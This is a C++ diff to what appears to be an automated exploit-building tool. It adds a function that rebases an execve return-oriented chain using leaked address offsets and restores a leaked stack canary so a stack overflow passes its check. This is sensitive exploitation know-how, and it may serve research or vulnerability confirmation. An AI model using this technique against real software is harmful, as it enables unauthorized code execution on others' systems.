@@ -12,7 +12,55 @@ void append_u64(std::vector<std::uint8_t>& bytes, std::uint64_t v) {
     bytes.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
 }
 
+std::uint64_t read_u64_at(const std::vector<std::uint8_t>& bytes,
+                          std::size_t off) {
+  std::uint64_t v = 0;
+  for (int i = 7; i >= 0; --i)
+    v = (v << 8) | bytes[off + static_cast<std::size_t>(i)];
+  return v;
+}
+
+void write_u64_at(std::vector<std::uint8_t>& bytes, std::size_t off,
+                  std::uint64_t v) {
+  for (int i = 0; i < 8; ++i)
+    bytes[off + static_cast<std::size_t>(i)] =
+        static_cast<std::uint8_t>(v >> (8 * i));
+}
+
 }  // namespace
+
+OverflowPayload patch_payload_for_leak(const OverflowPayload& payload,
+                                       std::uint64_t filler_length,
+                                       const LeakAdjust& adjust) {
+  const std::size_t filler = static_cast<std::size_t>(filler_length);
+  CRS_ENSURE(payload.bytes.size() ==
+                 filler + ChainBuilder::kExecveChainWords * 8,
+             "patch_payload_for_leak: payload/filler length mismatch");
+  CRS_ENSURE(!adjust.patch_canary || filler >= 8 + payload.path_offset + 1,
+             "patch_payload_for_leak: no room for the canary slot");
+
+  OverflowPayload out = payload;
+  // Chain words behind the filler: [0] pop r1, [1] buffer ptr, [2] pop r0,
+  // [3] SYS_EXECVE (immune), [4] syscall, [5] resume.
+  const auto shift = [&](std::size_t word, std::uint64_t delta) {
+    const std::size_t off = filler + word * 8;
+    write_u64_at(out.bytes, off, read_u64_at(out.bytes, off) + delta);
+  };
+  shift(0, adjust.image_delta);
+  shift(1, adjust.stack_delta);
+  shift(2, adjust.image_delta);
+  shift(4, adjust.image_delta);
+  shift(5, adjust.image_delta);
+  out.pop_r1_gadget = payload.pop_r1_gadget + adjust.image_delta;
+  out.pop_r0_gadget = payload.pop_r0_gadget + adjust.image_delta;
+  out.syscall_gadget = payload.syscall_gadget + adjust.image_delta;
+
+  // The canary scaffold keeps its cookie copy in the 8 bytes right below
+  // the saved return address; restoring the leaked value there keeps the
+  // epilogue check green while the chain overwrites the slot above it.
+  if (adjust.patch_canary) write_u64_at(out.bytes, filler - 8, adjust.canary);
+  return out;
+}
 
 ChainBuilder::ChainBuilder(std::span<const Gadget> gadgets)
     : gadgets_(gadgets) {}
